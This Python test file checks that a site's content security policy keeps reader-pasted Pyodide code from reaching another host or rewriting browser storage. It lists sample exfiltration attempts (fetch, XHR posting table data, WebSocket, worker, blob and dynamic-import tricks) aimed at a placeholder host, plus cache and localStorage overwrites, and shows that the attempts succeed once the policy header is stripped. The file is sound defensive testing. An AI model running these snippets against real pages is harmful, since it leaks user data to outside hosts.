"""What code that a reader pastes can reach: no other host, and nothing that the book keeps."""

from __future__ import annotations

import textwrap
from types import SimpleNamespace

import pytest

from tests.conftest import FLAGS
from tests.site.live_cells import FORMULA, TABLE, Live, needs_python

pytestmark = [needs_python, pytest.mark.xdist_group("live")]

# `HOST` is another host. Each attempt is Python as it could stand in a text to paste.
SENT = {
    "fetch": 'js.fetch("HOST/fetch")',
    "XMLHttpRequest": """
        r = js.XMLHttpRequest.new()
        r.open("POST", "HOST/xhr", False)
        r.send("my table")
    """,
    "open_url": 'from pyodide.http import open_url; open_url("HOST/open_url").read()',
    "WebSocket": 'js.WebSocket.new("HOST/socket".replace("http", "ws"))',
    "EventSource": 'js.EventSource.new("HOST/events")',
    "importScripts": 'js.importScripts("HOST/script.js")',
    "code from text": """
        from pyodide.code import run_js
        run_js("import('HOST/module.mjs')")
    """,
    "a worker": """js.Worker.new("data:text/javascript,fetch('HOST/worker')")""",
    "a worker from a blob": """
        from pyodide.ffi import to_js
        text = js.Blob.new(to_js(["fetch('HOST/blob')"]))
        js.Worker.new(js.URL.createObjectURL(text))
    """,
    "urllib": 'import urllib.request; urllib.request.urlopen("HOST/urllib")',
}
KEPT = {
    "caches": """
        def put(cache):
            cache.put("/index.html", js.Response.new("rewritten"))
        js.caches.open("kept").then(put, lambda error: None)
    """,
    "databases": 'js.indexedDB.open("kept").result',
    "storage": 'js.localStorage.setItem("kept", "rewritten")',
    "the service worker": "js.navigator.serviceWorker.getRegistrations",
    "the origin": 'assert js.self.origin != "null"',
}
PUT = """async () => {
  await (await caches.open("kept")).put("/index.html", new Response("as it was"));
  localStorage.kept = "as it was";
}"""
READ = """async () => [
  await (await caches.match("/index.html", { cacheName: "kept" })).text(),
  localStorage.kept,
  (await indexedDB.databases()).length,
]"""


def code_of(attempt: str, host: str = "") -> str:
    attempt = textwrap.dedent(attempt.replace("HOST", host)).strip()
    body = textwrap.indent(attempt, "    ")
    return (
        f"import js\ntry:\n{body}\n    print('done')\nexcept BaseException:\n    print('refused')"
    )


@pytest.fixture(scope="module")
def unguarded(browser, browser_path):
    """A browser without its own guard of this machine's addresses, so that these stand for any."""
    guard = "--disable-features=LocalNetworkAccessChecks"
    other = browser.browser_type.launch(executable_path=browser_path, args=[*FLAGS, guard])
    yield other
    other.close()


@pytest.fixture
def page(unguarded):
    # Not by open_page, whose pages are without their policy.
    context = unguarded.new_context()
    yield context.new_page()
    context.close()


@pytest.fixture
def here(page, book_url):
    return open_cell(page, f"{book_url}/{FORMULA}")


def open_cell(page, address: str) -> Live:
    page.goto(address)
    page.mouse.move(100, 100)
    page.locator("html:not([data-near-only])").wait_for(state="attached")
    return Live(SimpleNamespace(page=page), TABLE)


def test_pasted_code_reaches_no_other_host(here, other_host):
    address, asked = other_host
    for attempt in SENT.values():
        assert here.run(code_of(attempt, address)).strip() in ("done", "refused")
    here.page.wait_for_timeout(1000)  # for what is sent after a run
    assert asked == []


def test_pasted_code_reaches_the_other_host_without_the_policy(page, book_url, other_host):
    """The attempts are real: without the page's policy the other host hears of them."""
    address, asked = other_host

    def without_policy(route):
        answer = route.fetch()
        body = answer.text().replace("Content-Security-Policy", "x-none")
        route.fulfill(response=answer, body=body)

    page.route(f"**/{FORMULA}", without_policy)
    here = open_cell(page, f"{book_url}/{FORMULA}")
    for attempt in SENT.values():
        here.run(code_of(attempt, address))
    here.page.wait_for_timeout(1000)
    heard = {path.strip("/").split("?")[0] for path in asked}
    assert {"fetch", "xhr", "open_url", "socket", "events", "script.js"} <= heard
    assert {"module.mjs", "worker", "blob"} <= heard


def test_pasted_code_cannot_change_what_the_browser_keeps(here):
    here.page.evaluate(PUT)
    for what, attempt in KEPT.items():
        output = here.run(code_of(attempt)).strip()
        assert output == "refused" or what == "caches", what
    assert here.page.evaluate(READ) == ["as it was", "as it was", 0]
